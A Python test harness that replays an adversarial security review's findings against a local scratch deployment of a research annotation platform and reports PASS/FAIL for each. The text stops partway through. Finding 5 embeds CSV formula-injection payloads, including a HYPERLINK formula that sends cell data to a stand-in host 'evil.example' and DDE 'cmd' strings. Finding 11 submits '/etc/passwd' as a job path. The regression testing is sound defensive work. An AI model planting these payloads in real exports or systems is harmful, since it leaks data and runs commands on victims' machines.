"""Replay the adversarial review's HTTP reproductions against a running deployment.

Usage, against a scratch deployment on this machine only (it creates studies, participants
and jobs there; docs/deploy.md, "Checking a deployment against the adversarial review"):

    python bench/adversarial_rerun.py --base http://127.0.0.1:8123 \
        --alice alice:PASSWORD --bob bob:PASSWORD --carol carol:PASSWORD --admin admin:PASSWORD \
        --psql-db DBNAME --celery-pid PID --kill-worker-log /tmp/worker2.log

alice and bob are researchers, carol an ordinary user, admin a superuser; the demo studies
(`loaddemo`, `loaddemogame`) must be loaded and one Celery worker (`-Q default,gpu`) running.
Every study it makes has a per-run suffix, so it can be run again (the token and login rate
limits allow one run a minute). For each finding it prints the number, the safe behaviour
expected, what it saw, and PASS/FAIL; the exit status is 1 when any replay failed.

- `--psql-db` (psql -h 127.0.0.1 -U postgres) back-dates a page (finding 17) and holds a table
  lock so that a job stays `running` while a fault hits it (findings 1, 24).
- `--celery-pid` (the worker's main process): finding 1 SIGKILLs its pool child and cuts its
  database connection mid-job.
- `--kill-worker-log`: finding 24 SIGKILLs the whole worker, starts a replacement with the same
  command and environment (log appended to that file, left running; its pid is printed) and
  runs `manage.py sweepjobs` until the job ends, as beat would.
Without them those findings are skipped (tests/adversarial/test_finding_01/17/24 cover them).
Finding 28 needs a 40k-answer study (tests/adversarial/test_finding_28_participants_page.py);
25 and 26 are documentation only. RATE_LIMIT_ENTRY must allow the ~60 entries a run makes
within a minute (the default 60/min is too tight: 2000/min on the scratch deployment).

Only the standard library; only loopback addresses; every request has a timeout.
"""

from __future__ import annotations

import argparse
import copy
import csv
import http.client
import http.cookiejar
import io
import json
import os
import re
import secrets
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "docs" / "examples"
TIMEOUT = 60
RESULTS: list[tuple[str, str, str, bool]] = []


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, req, fp, code, msg, headers, newurl):
        return None


class Reply:
    def __init__(self, status: int, headers, body: bytes):
        self.status, self.headers, self.body = status, headers, body

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    def json(self):
        return json.loads(self.body)

    def __repr__(self) -> str:
        return f"{self.status} {self.headers.get('Content-Type', '')} {self.text[:300]!r}"


class Browser:
    """A cookie jar with CSRF handling (a browser session) or an API token."""

    def __init__(self, base: str, token: str | None = None):
        self.base, self.token = base, token
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar), NoRedirect)

    def headers_token(self) -> str:
        return f"Token {self.token}"

    def csrf(self) -> str:
        for cookie in self.jar:
            if cookie.name == "csrftoken":
                return cookie.value
        return ""

    def request(
        self, method: str, path: str, body: bytes | None = None, headers: dict | None = None
    ) -> Reply:
        url = path if path.startswith("http") else self.base + path
        host = urllib.parse.urlsplit(url).hostname
        assert host in ("127.0.0.1", "localhost", "::1"), f"loopback only: {url}"
        headers = dict(headers or {})
        if self.token:
            headers.setdefault("Authorization", f"Token {self.token}")
        if method not in ("GET", "HEAD"):
            headers.setdefault("X-CSRFToken", self.csrf())
            headers.setdefault("Referer", self.base + "/")
        req = urllib.request.Request(url, data=body, method=method, headers=headers)  # noqa: S310 - http to loopback only
        try:
            with self.opener.open(req, timeout=TIMEOUT) as resp:
                return Reply(resp.status, resp.headers, resp.read())
        except urllib.error.HTTPError as error:
            return Reply(error.code, error.headers, error.read())

    def get(self, path: str, headers: dict | None = None) -> Reply:
        return self.request("GET", path, headers=headers)

    def form(self, path: str, data: dict | list | None = None, headers: dict | None = None) -> Reply:
        if not self.csrf():
            self.get("/accounts/login/")
        body = urllib.parse.urlencode(data or {}, doseq=True).encode()
        return self.request(
            "POST", path, body, {"Content-Type": "application/x-www-form-urlencoded", **(headers or {})}
        )

    def send_json(self, method: str, path: str, data, headers: dict | None = None) -> Reply:
        body = data if isinstance(data, bytes) else json.dumps(data).encode()
        return self.request(method, path, body, {"Content-Type": "application/json", **(headers or {})})

    def multipart(self, path: str, field: str, filename: str, content: bytes) -> Reply:
        self.get(path)
        boundary = "----rerun" + secrets.token_hex(8)
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n'
                f"{self.csrf()}\r\n"
                f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
                "Content-Type: application/json\r\n\r\n"
            ).encode()
            + content
            + f"\r\n--{boundary}--\r\n".encode()
        )
        return self.request("POST", path, body, {"Content-Type": f"multipart/form-data; boundary={boundary}"})

    def login(self, username: str, password: str) -> None:
        self.get("/accounts/login/")
        reply = self.form("/accounts/login/", {"username": username, "password": password})
        assert reply.status == 302, f"login {username}: {reply!r}"


def record(number: str, expected: str, observed: str, ok: bool) -> None:
    RESULTS.append((number, expected, observed, ok))
    print(
        f"{number:>3} {'PASS' if ok else 'FAIL'}  expected: {expected}\n     observed: {observed}", flush=True
    )


def finding(number: str, expected: str):
    """Run one replay; an exception in it is a FAIL with the exception as what was seen."""

    def wrap(fn):
        def run(*args):
            try:
                observed, ok = fn(*args)
            except Exception as error:
                observed, ok = f"replay raised {type(error).__name__}: {error}", False
            record(number, expected, observed, ok)

        run.number = number
        return run

    return wrap


# --- study files ---------------------------------------------------------------------------


def example(name: str, slug: str, **fields) -> dict:
    data = json.loads((EXAMPLES / name).read_text())
    data.update(slug=slug, status="live", **fields)
    data.setdefault("public", data.get("kind") != "exam" and "exam" not in name)
    return data


def create(api: Browser, data: dict) -> None:
    reply = api.send_json("POST", "/api/v1/studies/", data)
    assert reply.status == 201, f"create {data['slug']}: {reply!r}"


def responses(api: Browser, slug: str) -> int:
    reply = api.get(f"/api/v1/responses/?study={slug}&page_size=500")
    assert reply.status == 200, reply
    return len(reply.json()["results"])


def participants(api: Browser, slug: str) -> list[dict]:
    reply = api.get(f"/api/v1/studies/{slug}/participants/?page_size=500")
    assert reply.status == 200, reply
    return reply.json()["results"]


# --- participant steps ----------------------------------------------------------------------

ASSIGNMENT = re.compile(r'action="(/s/[\w-]+/a/\d+/)"')


def enter(base: str, slug: str, pid: str | None) -> Browser:
    who = Browser(base)
    query = f"?PROLIFIC_PID={pid}&STUDY_ID=rerun&SESSION_ID={pid}" if pid else ""
    who.get(f"/s/{slug}/{query}")
    reply = who.form(f"/s/{slug}/consent/{query}", {"decision": "agree"})
    assert reply.status in (200, 302), f"consent {slug}: {reply!r}"
    return who


def claim_page(who: Browser, slug: str) -> str | None:
    """The submit address of the page /task/ hands out, or None (no page)."""
    reply = who.get(f"/s/{slug}/task/")
    match = ASSIGNMENT.search(reply.text) if reply.status == 200 else None
    return match.group(1) if match else None


def answer_claim(who: Browser, action: str | None, *, stored: bool = False) -> Reply:
    """Answer a claim page; with ``stored`` the answer must be taken (a setup step)."""
    assert action, "no page to answer"
    reply = who.form(action, {"label": "supports", "evidence": ["0"]})
    assert not stored or reply.status == 302, f"answer {action}: {reply!r}"
    return reply


def wait_job(api: Browser, job_id: int, limit_s: float = 120) -> dict:
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        job = api.get(f"/api/v1/jobs/{job_id}/").json()
        if job["status"] in ("done", "failed", "cancelled"):
            return job
        time.sleep(1)
    return job


# --- the findings ---------------------------------------------------------------------------


class TableLock:
    """Hold an exclusive lock on the responses table from a psql session, so that a job that
    reads responses stays `running` (blocked) until the lock is released: a window for a fault."""

    def __init__(self, db: str):
        self.psql = subprocess.Popen(
            ["psql", "-h", "127.0.0.1", "-U", "postgres", "-d", db, "-q"], stdin=subprocess.PIPE, text=True
        )
        self.send("BEGIN; LOCK TABLE annotation_response IN ACCESS EXCLUSIVE MODE;")
        time.sleep(1)

    def send(self, sql: str) -> None:
        self.psql.stdin.write(sql + "\n")
        self.psql.stdin.flush()

    def release(self) -> None:
        self.send("ROLLBACK;\n\\q")
        self.psql.stdin.close()
        self.psql.wait(30)


def psql(db: str, sql: str) -> str:
    done = subprocess.run(
        ["psql", "-h", "127.0.0.1", "-U", "postgres", "-d", db, "-Atqc", sql],
        check=True,
        timeout=30,
        capture_output=True,
        text=True,
    )
    return done.stdout.strip()


def job_attempts(ctx, job_id) -> str:
    return psql(ctx.psql_db, f"SELECT attempts FROM annotation_job WHERE id = {int(job_id)}")  # noqa: S608


def wait_for(check, limit_s: float):
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        value = check()
        if value:
            return value
        time.sleep(0.5)
    return check()


def export_with_fault(ctx, slug: str, fault) -> tuple[dict, str]:
    """Start a JSONL export, let it block on the lock while `running`, apply ``fault``,
    release the lock and wait for the job's end (the heartbeat grace is 60 s by default)."""
    lock = TableLock(ctx.psql_db)
    try:
        job = ctx.alice.send_json("POST", f"/api/v1/studies/{slug}/exports/", {"format": "jsonl"}).json()
        job_id = job.get("job") or job["id"]
        running = wait_for(lambda: ctx.alice.get(f"/api/v1/jobs/{job_id}/").json()["status"] == "running", 30)
        assert running, "the job never started running"
        time.sleep(2)
        what = fault()
        time.sleep(3)
    finally:
        lock.release()
    return wait_job(ctx.alice, job_id, limit_s=240), what


def study_with_one_answer(ctx, name: str) -> str:
    slug = ctx.slug(name)
    create(ctx.alice, example("claim.json", slug, attention_check_rate=0))
    who = enter(ctx.base, slug, f"{name}-{ctx.run}")
    answer_claim(who, claim_page(who, slug), stored=True)
    return slug


@finding("1", "a job whose pool child is killed, or whose DB connection is cut, finishes done exactly once")
def f01(ctx):
    slug = study_with_one_answer(ctx, "faults")

    def kill_pool_child() -> str:
        children = Path(f"/proc/{ctx.celery_pid}/task/{ctx.celery_pid}/children").read_text().split()
        assert children, "the worker has no pool child"
        os.kill(int(children[0]), signal.SIGKILL)
        return f"SIGKILL pool child {children[0]}"

    def cut_connection() -> str:
        blocked = psql(
            ctx.psql_db,
            "SELECT pid FROM pg_stat_activity WHERE datname = current_database() "
            "AND wait_event_type = 'Lock' "
            "AND query ILIKE '%annotation_response%' AND pid <> pg_backend_pid()",
        ).split()
        assert blocked, "no blocked worker connection"
        psql(ctx.psql_db, f"SELECT pg_terminate_backend({int(blocked[0])})")
        return f"pg_terminate_backend({blocked[0]})"

    seen, ok = [], True
    for fault in (kill_pool_child, cut_connection):
        job, what = export_with_fault(ctx, slug, fault)
        rows = job.get("result", {}).get("rows")
        attempts = job_attempts(ctx, job["id"])
        seen.append(f"{what}: job {job['id']} {job['status']} rows={rows} attempts={attempts}")
        ok = ok and job["status"] == "done" and rows == 1
    return "; ".join(seen), ok


@finding("24", "a SIGKILLed whole worker: the sweep requeues its job, which finishes once (not after 1 hour)")
def f24(ctx):
    slug = study_with_one_answer(ctx, "whole-worker")
    pid = ctx.celery_pid
    command = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[:-1]
    environ = dict(
        entry.split(b"=", 1)
        for entry in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        if b"=" in entry
    )
    cwd = os.readlink(f"/proc/{pid}/cwd")
    sweeps = []

    def kill_whole_worker() -> str:
        children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
        for victim in [*children, str(pid)]:
            os.kill(int(victim), signal.SIGKILL)
        return f"SIGKILL worker {pid} and children {children}"

    def restart_and_sweep() -> None:
        if not sweeps:  # the replacement worker, started like the killed one
            log = open(Path(ctx.worker_log), "ab")  # noqa: SIM115 - the worker keeps it open
            worker = subprocess.Popen(
                command, env=environ, cwd=cwd, stdout=log, stderr=log, start_new_session=True
            )
            ctx.celery_pid = worker.pid
            print(f"     (replacement worker started: pid {worker.pid}, log {ctx.worker_log})", flush=True)
        sweep = subprocess.run(
            [command[0], "manage.py", "sweepjobs"],
            env=environ,
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=120,
        )
        sweeps.append(sweep.stdout.strip())

    lock = TableLock(ctx.psql_db)
    try:
        job = ctx.alice.send_json("POST", f"/api/v1/studies/{slug}/exports/", {"format": "jsonl"}).json()
        job_id = job.get("job") or job["id"]
        assert wait_for(lambda: ctx.alice.get(f"/api/v1/jobs/{job_id}/").json()["status"] == "running", 30)
        what = kill_whole_worker()
    finally:
        lock.release()
    deadline = time.monotonic() + 240
    while (
        time.monotonic() < deadline and ctx.alice.get(f"/api/v1/jobs/{job_id}/").json()["status"] == "running"
    ):
        restart_and_sweep()
        time.sleep(10)
    done = wait_job(ctx.alice, job_id, limit_s=60)
    attempts = job_attempts(ctx, job_id)
    swept = [line for line in sweeps if "Requeued 0" not in line]
    rows = done.get("result", {}).get("rows")
    return f"{what}; sweeps: {swept}; job {job_id} {done['status']} rows={rows} attempts={attempts}", (
        done["status"] == "done" and rows == 1
    )


@finding("2", "new guests do not all get the same first passage")
def f02(ctx):
    first = []
    for _ in range(10):
        guest = Browser(ctx.base)
        guest.get("/play/")
        reply = guest.form("/play/s/roft-news/")
        location = reply.headers.get("Location", "")
        page = guest.get(location) if reply.status == 302 else reply
        match = re.search(r'id="sentence-0">.*?<p>(.*?) <span', page.text, re.S)
        assert match, f"no first sentence: {page!r}"
        first.append(match.group(1)[:60])
    return f"{len(set(first))} distinct first passages among 10 guests", len(set(first)) > 1


@finding("3", "after closing: held page's POST refused (410), /task/ gives no page, nothing stored")
def f03(ctx):
    slug = ctx.slug("closed")
    create(ctx.alice, example("claim.json", slug, attention_check_rate=0))
    who = enter(ctx.base, slug, "closed-" + ctx.run)
    answer_claim(who, claim_page(who, slug), stored=True)
    action = claim_page(who, slug)
    assert action, "no first page"
    before = responses(ctx.alice, slug)
    status = ctx.alice.send_json("POST", f"/api/v1/studies/{slug}/status/", {"status": "closed"})
    assert status.status == 200, status
    post, task = answer_claim(who, action), who.get(f"/s/{slug}/task/")
    after = responses(ctx.alice, slug)
    ok = post.status == 410 and task.status == 410 and after == before
    return f"POST {post.status}, GET /task/ {task.status}, responses {before}->{after}", ok


@finding("4", "throwaway sessions holding pages do not end V's session with the code")
def f04(ctx):
    slug = ctx.slug("hog")
    data = example("claim.json", slug, attention_check_rate=0, annotations_per_item=1, items_per_session=3)
    data["items"] = data["items"][:3]
    data["completion_code"] = "SMALL-DONE-" + ctx.run.upper()
    create(ctx.alice, data)
    v = enter(ctx.base, slug, "victim-" + ctx.run)
    answer_claim(v, claim_page(v, slug), stored=True)
    held = [claim_page(enter(ctx.base, slug, None), slug) for _ in range(2)]
    task = v.get(f"/s/{slug}/task/")
    done = v.get(task.headers.get("Location", f"/s/{slug}/done/")) if task.status == 302 else task
    leaked, told = data["completion_code"] in done.text, 'id="pages-held"' in done.text
    return (
        f"throwaways held {sum(bool(h) for h in held)} pages; V's /task/ {task.status}, "
        f"told pages are held: {told}, code shown: {leaked}",
        not leaked and told,
    )


def export_text(api: Browser, slug: str, **options) -> str:
    """Run a CSV export of ``slug`` on the worker and return the CSV text."""
    job = api.send_json("POST", f"/api/v1/studies/{slug}/exports/", {"format": "csv", **options})
    assert job.status == 202, job
    body = job.json()
    done = wait_job(api, body.get("job", body.get("job_id", body.get("id"))))
    assert done["status"] == "done", done
    download = api.get(f"/api/v1/studies/{slug}/exports/{body['id']}/download/")
    assert download.status == 200, download
    if download.body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(download.body)) as archive:
            return "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv"))
    return download.text


def play_round_with_reason(base: str, slug: str, pid: str, reason: str) -> Reply:
    """Reveal the second sentence, call it machine-written, give ``reason``."""
    player = enter(base, slug, pid)
    page = player.get(f"/s/{slug}/task/")
    match = re.search(r"/a/(\d+)/boundary/", page.text)
    assert match, f"no round: {page!r}"
    step = f"/s/{slug}/a/{match.group(1)}/boundary/"
    htmx = {"HX-Request": "true"}
    assert player.form(step + "reveal/", {"seen": 1}, htmx).status == 200
    assert player.form(step + "guess/", {"guess": 1}, htmx).status == 200
    return player.form(step + "answer/", {"reason": reason}, htmx)


def cells_starting(text: str, marker: str) -> list[str]:
    """The CSV cells that contain ``marker``, as written (first 30 characters)."""
    rows = csv.reader(io.StringIO(text))
    return [cell[:30] for row in rows for cell in row if marker in cell]


@finding("5", "CSV cells starting with = + @ (reason text, platform_worker_id) are neutralised")
def f05(ctx):
    slug = ctx.slug("csv")
    create(ctx.alice, example("boundary.json", slug, attention_check_rate=0))
    payloads = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        "+cmd|' /C calc'!A0",
        '@SUM(1+1)*cmd|"/C calc"!A0',
    ]
    for n, reason in enumerate(payloads):
        played = play_round_with_reason(ctx.base, slug, f"csv-{ctx.run}-{n}", reason)
        assert played.status == 200, f"round {n}: {played!r}"
    played = play_round_with_reason(ctx.base, slug, urllib.parse.quote(payloads[0]), "Plain reason.")
    assert played.status == 200, f"planted round: {played!r}"
    text = export_text(ctx.admin, slug, include_platform_ids=True)
    cells = [c for marker in ("HYPERLINK", "cmd|") for c in cells_starting(text, marker)]
    raw = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return f"cells with the payloads: {cells}; starting with a formula character: {raw}", (
        len(cells) >= 7 and not raw
    )


@finding("6", "PATCH config show:5 on a 3-passage ranking study is a 400; pages still 200")
def f06(ctx):
    slug = ctx.slug("ranking")
    create(ctx.alice, example("ranking.json", slug, attention_check_rate=0))
    patch = ctx.alice.send_json("PATCH", f"/api/v1/studies/{slug}/", {"config": {"show": 5}})
    who = enter(ctx.base, slug, "rank-" + ctx.run)
    task = who.get(f"/s/{slug}/task/")
    return (
        f"PATCH {patch.status} {patch.text[:120]}; /task/ {task.status}",
        patch.status == 400 and task.status == 200,
    )


@finding("7", "MTurk preview of a boundary study is 200")
def f07(ctx):
    reply = Browser(ctx.base).get("/s/roft-news/?assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE")
    return f"GET preview {reply.status}", reply.status == 200


@finding("8", "bob cannot require alice's exam (400), alice's exam unchanged")
def f08(ctx):
    data = example("simulation.json", ctx.slug("bob-sim"), qualification=ctx.exam)
    data["items"] = data["items"][:2]
    reply = ctx.bob.send_json("POST", "/api/v1/studies/", data)
    return f"POST {reply.status} {reply.text[:160]}", reply.status == 400


@finding("9", "same Idempotency-Key, different >1 MiB body: refused, not replayed")
def f09(ctx):
    slug = ctx.slug("idem")
    create(ctx.alice, example("claim.json", slug, attention_check_rate=0))
    passage = "A sentence that fills the passage out. " * 12

    def body(tag: str) -> bytes:
        lines = [
            json.dumps({"external_id": f"idem-{tag}-{n:05d}", "payload": {"claim": "c", "passage": passage}})
            for n in range(2500)
        ]
        return ("\n".join(lines) + "\n").encode()

    a, b = body("a"), body("b")
    headers = {"Content-Type": "application/x-ndjson", "Idempotency-Key": "rerun-" + ctx.run}
    first = ctx.alice.request("POST", f"/api/v1/studies/{slug}/items/", a, headers)
    second = ctx.alice.request("POST", f"/api/v1/studies/{slug}/items/", b, headers)
    return (
        f"bodies {len(a)}/{len(b)} bytes; first {first.status}; second {second.status} "
        f"replayed={second.headers.get('Idempotent-Replayed')} {second.text[:100]}",
        first.status in (200, 201) and second.status in (400, 409, 422),
    )


def post_until_refused(ctx, path: str, body: bytes) -> Reply:
    """POST a large body in chunks and read the answer even when the server refuses it and
    closes the connection before the body is all sent (urllib would only see the broken pipe)."""
    parts = urllib.parse.urlsplit(ctx.base)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=TIMEOUT)
    connection.putrequest("POST", path)
    for name, value in (
        ("Authorization", ctx.alice.headers_token()),
        ("Content-Type", "application/json"),
        ("Content-Length", str(len(body))),
    ):
        connection.putheader(name, value)
    connection.endheaders()
    try:
        for start in range(0, len(body), 1 << 20):
            connection.send(body[start : start + (1 << 20)])
    except (BrokenPipeError, ConnectionResetError):
        pass  # refused early: the answer is already waiting
    answer = connection.getresponse()
    try:
        return Reply(answer.status, answer.headers, answer.read())
    finally:
        connection.close()


@finding("10", "a 2.7 MB study file is accepted (201), beyond API_MAX_UPLOAD_BYTES a JSON 413")
def f10(ctx):
    data = example("claim.json", ctx.slug("big"), attention_check_rate=0)
    item = data["items"][0]
    data["items"] = []
    for n in range(6000):
        copy_ = copy.deepcopy(item)
        copy_["external_id"] = f"big-{n}"
        data["items"].append(copy_)
    body = json.dumps(data).encode()
    reply = ctx.alice.send_json("POST", "/api/v1/studies/", body)
    huge = b'{"pad": "' + b"x" * (50 * 1024 * 1024) + b'"}'
    over = post_until_refused(ctx, "/api/v1/studies/", huge)
    over_seen = f"{over.status} {over.headers.get('Content-Type')} {over.text[:80]}"
    over_ok = over.status == 413 and over.headers.get("Content-Type", "").startswith("application/json")
    return (
        f"{len(body)} bytes -> {reply.status} {reply.headers.get('Content-Type')}; "
        f"{len(huge)} bytes -> {over_seen}",
        reply.status == 201 and over_ok,
    )


@finding("11", "a job path outside the configured roots is refused before queueing (400)")
def f11(ctx):
    slug = ctx.slug("gen")
    create(ctx.alice, example("boundary.json", slug))
    reply = ctx.alice.send_json(
        "POST",
        "/api/v1/jobs/",
        {
            "kind": "continuations",
            "study": slug,
            "parameters": {"corpus": "/etc/passwd", "model": "/nonexistent"},
        },
    )
    return f"POST /api/v1/jobs/ {reply.status} {reply.text[:160]}", reply.status == 400


@finding("12", "blocked mid-session: POST and /task/ refused (403), nothing stored")
def f12(ctx):
    slug = ctx.slug("block")
    create(ctx.alice, example("claim.json", slug, attention_check_rate=0))
    who = enter(ctx.base, slug, "blocked-" + ctx.run)
    answer_claim(who, claim_page(who, slug), stored=True)
    action = claim_page(who, slug)
    public_id = participants(ctx.alice, slug)[0]["participant"]
    block = ctx.alice.send_json(
        "PATCH", f"/api/v1/studies/{slug}/participants/{public_id}/", {"blocked": True, "reason": "rerun"}
    )
    assert block.status == 200, block
    before = responses(ctx.alice, slug)
    post, task = answer_claim(who, action), who.get(f"/s/{slug}/task/")
    after = responses(ctx.alice, slug)
    return f"POST {post.status}, /task/ {task.status}, responses {before}->{after}", (
        post.status == 403 and task.status == 403 and before == after
    )


@finding("13", "upload page: a study file without items / with [] is a 400 naming items")
def f13(ctx):
    seen, ok = [], True
    for items in (None, []):
        data = example("claim.json", ctx.slug("noitems"))
        data.pop("items") if items is None else data.update(items=items)
        reply = ctx.alice_web.multipart(
            "/research/studies/new/", "study_file", "s.json", json.dumps(data).encode()
        )
        seen.append(str(reply.status))
        ok = ok and reply.status == 400 and "items" in reply.text
    return "upload page " + ", ".join(seen), ok


@finding("14", "deeply nested JSON: 400 on the API, the items upload and the upload page")
def f14(ctx):
    nested = b"[" * 5000 + b"]" * 5000
    api = ctx.alice.send_json("POST", "/api/v1/studies/", nested)
    line = b'{"external_id":"deep","payload":{"claim":"c","passage":"p"},"provenance":' + nested + b"}\n"
    items = ctx.alice.request(
        "POST", f"/api/v1/studies/{ctx.slug('small')}/items/", line, {"Content-Type": "application/x-ndjson"}
    )
    page = ctx.alice_web.multipart("/research/studies/new/", "study_file", "deep.json", nested)
    codes = (api.status, items.status, page.status)
    return f"API {codes[0]}, items {codes[1]}, upload page {codes[2]}", all(c == 400 for c in codes)


@finding("15", "browsable API in a logged-in browser: no 500")
def f15(ctx):
    paths = [
        "/api/v1/studies/",
        f"/api/v1/studies/{ctx.slug('small')}/",
        "/api/v1/jobs/",
        "/api/v1/responses/",
    ]
    paths += [f"/api/v1/studies/{ctx.slug('small')}/items/", "/api/v1/job-kinds/"]
    codes = [ctx.alice_web.get(p, {"Accept": "text/html"}).status for p in paths]
    return f"codes {codes}", all(c < 500 for c in codes)


@finding("16", "items upload to an exam: no gold or an attention check is a 400")
def f16(ctx):
    url = f"/api/v1/studies/{ctx.exam}/items/"
    plain = {
        "external_id": "nogold-" + ctx.run,
        "payload": json.loads((EXAMPLES / "simulation-exam.json").read_text())["items"][0]["payload"],
    }
    attention = dict(plain, external_id="att-" + ctx.run, attention_check=True, gold=None)
    codes = []
    for item in (dict(plain, gold=None), attention):
        reply = ctx.alice.request(
            "POST", url, (json.dumps(item) + "\n").encode(), {"Content-Type": "application/x-ndjson"}
        )
        codes.append(reply.status)
    return f"codes {codes}", all(c == 400 for c in codes)


def backdate(ctx, assignment_id: str, interval: str) -> None:
    """Move a page's expiry into the past with psql (the review did the same in SQL)."""
    sql = (
        f"UPDATE annotation_assignment SET expires_at = now() - interval '{interval}' "  # noqa: S608 - our values
        f"WHERE id = {int(assignment_id)}"
    )
    subprocess.run(
        ["psql", "-h", "127.0.0.1", "-U", "postgres", "-d", ctx.psql_db, "-qc", sql], check=True, timeout=30
    )


@finding("17", "a page past its expiry takes no answer at submit; an expired round takes no reason (409)")
def f17(ctx):
    slug = ctx.slug("expiry")
    create(ctx.alice, example("claim.json", slug, attention_check_rate=0))
    who = enter(ctx.base, slug, "late-" + ctx.run)
    action = claim_page(who, slug)
    backdate(ctx, action.rstrip("/").rsplit("/", 1)[1], "2 hours")
    late = answer_claim(who, action)
    page = who.get(late.headers["Location"]) if late.status == 302 else late
    refused = "expired before it was answered" in page.text
    stored = responses(ctx.alice, slug)
    game = ctx.slug("expiry-game")
    create(ctx.alice, example("boundary.json", game))
    player = enter(ctx.base, game, "late-player-" + ctx.run)
    round_id = re.search(r"/a/(\d+)/boundary/", player.get(f"/s/{game}/task/").text).group(1)
    step, htmx = f"/s/{game}/a/{round_id}/boundary/", {"HX-Request": "true"}
    player.form(step + "reveal/", {"seen": 1}, htmx)
    guessed = player.form(step + "guess/", {"guess": 1}, htmx)
    backdate(ctx, round_id, "1 second")
    reason = player.form(step + "answer/", {"reason": "Too late."}, htmx)
    round_stored = responses(ctx.alice, game)
    return (
        f"late POST {late.status} (told expired: {refused}), responses {stored}; "
        f"round guess {guessed.status}, "
        f"late reason {reason.status}, responses {round_stored}",
        refused and stored == 0 and guessed.status == 200 and reason.status == 409 and round_stored == 0,
    )


@finding("18", "cookieless GETs/HEADs of a study link create no participant")
def f18(ctx):
    def rows() -> str:
        if not ctx.psql_db:
            return str(len(participants(ctx.admin, "demo-likert")))
        return psql(
            ctx.psql_db,
            "SELECT (SELECT count(*) FROM annotation_participant) || '/' || "
            "(SELECT count(*) FROM annotation_enrollment)",
        )

    before = rows()
    codes = set()
    for _ in range(10):
        codes.add(Browser(ctx.base).get("/s/demo-likert/").status)
        codes.add(Browser(ctx.base).request("HEAD", "/s/demo-likert/").status)
    after = rows()
    what = "participant/enrollment rows" if ctx.psql_db else "demo-likert participants (API)"
    return f"codes {sorted(codes)}; {what} {before}->{after}", before == after


@finding("19", "bob gets the same answer for alice's slug as for an unused one")
def f19(ctx):
    def attempt(slug):
        data = example("claim.json", slug)
        data["items"] = "not a list"
        reply = ctx.bob.send_json("POST", "/api/v1/studies/", data)
        return reply.status, reply.text.replace(slug, "SLUG")

    taken, free = attempt(ctx.slug("small")), attempt(ctx.slug("unused"))
    return f"taken {taken[0]} {taken[1][:90]} / unused {free[0]} {free[1][:90]}", taken == free


@finding("20", "after un-sharing, bob's jobs on the study leave /research/jobs/ and the status feed")
def f20(ctx):
    slug = ctx.slug("shared")
    create(ctx.alice, example("ranking.json", slug))
    assert ctx.alice.send_json("PATCH", f"/api/v1/studies/{slug}/", {"shared_with": ["bob"]}).status == 200
    export = ctx.bob.send_json("POST", f"/api/v1/studies/{slug}/exports/", {"format": "jsonl"})
    reports = ctx.bob.send_json("POST", "/api/v1/jobs/", {"kind": "reports", "study": slug})
    assert (export.status, reports.status) == (202, 201), (export, reports)
    ids = [export.json().get("job", export.json().get("id")), reports.json()["id"]]
    assert ctx.alice.send_json("PATCH", f"/api/v1/studies/{slug}/", {"shared_with": []}).status == 200
    page = ctx.bob_web.get("/research/jobs/").text
    status = ctx.bob_web.get("/research/jobs/status/?ids=" + ",".join(map(str, ids)))
    listed = [pk for pk in ids if f'data-job-id="{pk}"' in page] + (["slug"] if slug in page else [])
    leaked = slug in status.text
    return (
        f"jobs page lists {listed}; status feed {status.status} names study: {leaked}",
        not listed and not leaked,
    )


@finding("21", "PATCH with unknown or read-only fields is a 400, nothing changed")
def f21(ctx):
    slug = ctx.slug("small")
    codes = {}
    for field, value in (
        ("completion_cod", "TYPO"),
        ("owner", "bob"),
        ("kind", "likert"),
        ("status", "draft"),
    ):
        codes[field] = ctx.alice.send_json("PATCH", f"/api/v1/studies/{slug}/", {field: value}).status
    mixed = ctx.alice.send_json("PATCH", f"/api/v1/studies/{slug}/", {"title": "changed?", "owner": "bob"})
    title = ctx.alice.get(f"/api/v1/studies/{slug}/").json()["title"]
    ok = all(c == 400 for c in codes.values()) and mixed.status == 400 and title != "changed?"
    return f"{codes}, mixed {mixed.status}, title now {title!r}", ok


@finding("22", "a planted PROLIFIC_PID before sign-up does not bind the new account")
def f22(ctx):
    victim = Browser(ctx.base)
    pid = "planted-" + ctx.run
    victim.get(f"/s/demo-likert/?PROLIFIC_PID={pid}&STUDY_ID=x&SESSION_ID=y")
    password = "a-long-pass-" + ctx.run
    signup = victim.form(
        "/play/signup/", {"username": "rt_victim_" + ctx.run, "password1": password, "password2": password}
    )
    board = victim.get("/play/leaderboard/")
    bound = "count for research" in board.text
    linked = "n/a"
    if ctx.psql_db:
        linked = psql(
            ctx.psql_db,
            "SELECT count(*) FROM annotation_participant p JOIN auth_user u ON u.id = p.user_id "  # noqa: S608
            f"WHERE u.username = 'rt_victim_{ctx.run}' AND p.source = 'prolific'",
        )
    return (
        f"signup {signup.status}; leaderboard says bound: {bound}; prolific rows of the account: {linked}",
        (signup.status == 302 and not bound and linked in ("0", "n/a")),
    )


@finding("23", "token endpoint: same answer for a non-researcher's right password and a wrong one; throttled")
def f23(ctx):
    api = Browser(ctx.base)
    right = api.send_json("POST", "/api/v1/auth/token/", {"username": "carol", "password": ctx.carol_pw})
    wrong = api.send_json("POST", "/api/v1/auth/token/", {"username": "carol", "password": "wrong-pass"})
    codes = [
